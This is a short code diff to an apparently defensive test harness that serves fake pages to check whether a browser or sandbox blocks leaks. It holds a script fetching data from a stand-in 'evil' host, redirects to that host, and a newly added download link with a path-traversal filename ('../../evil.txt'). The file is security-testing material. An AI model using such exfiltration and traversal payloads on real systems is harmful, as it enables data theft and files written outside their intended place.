@@ -54,6 +54,9 @@ def _site_handler(counts: Counts, evil: str) -> type[http.server.BaseHTTPRequest
         "/fetcher": f"<title>Fetcher</title><h1 id=h>waiting</h1><script>fetch('{evil}/data')"
         ".then(()=>h.textContent='leaked',()=>h.textContent='refused')</script>",
         "/redir-page": "<title>Chain</title><img src='/img-redir'><h1>Chain</h1>",
+        "/download": "<title>Get</title><a id=dl href='/file.txt' download='../../evil.txt'>"
+        "get</a>",
+        "/file.txt": "report",
     }
     redirects = {"/redir": f"{evil}/x", "/redir-ok": "/page", "/img-redir": f"{evil}/img"}
 
